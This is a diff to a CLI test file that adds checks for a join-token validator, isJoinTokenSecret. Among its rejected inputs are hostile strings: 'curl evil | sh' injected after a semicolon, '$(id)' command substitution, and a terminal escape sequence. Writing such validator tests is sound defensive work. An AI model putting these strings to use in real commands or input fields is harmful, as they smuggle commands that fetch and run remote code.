@@ -6,6 +6,7 @@ import {
   checkTargetHostname,
   installLine,
   installerAcceptsUrl,
+  isJoinTokenSecret,
   parseSha256Line,
   isUuid,
   parseJoinTokenLifetime,
@@ -96,6 +97,10 @@ describe('cli/domain/admin: argument checks', () => {
     );
     assert.equal(parseSha256Line(`${digest.toUpperCase()}  latchkey-agent-linux-x64.tar.gz\n`), digest);
     assert.equal(parseSha256Line('<html>not found</html>'), undefined);
+    assert.ok(isJoinTokenSecret('lkj_xLpI6o7aUcJlX6cEZI-FH8gJhpmsJS5sOhGZUoeZPQs'));
+    for (const hostile of ['lkj_x; curl evil | sh #', 'lkj_\x1b[2Jabcdef', 'lkj_$(id)abc', 'short']) {
+      assert.ok(!isJoinTokenSecret(hostile), hostile);
+    }
     for (const ok of [
       'https://a.example.com',
       'http://127.0.0.1:8443',
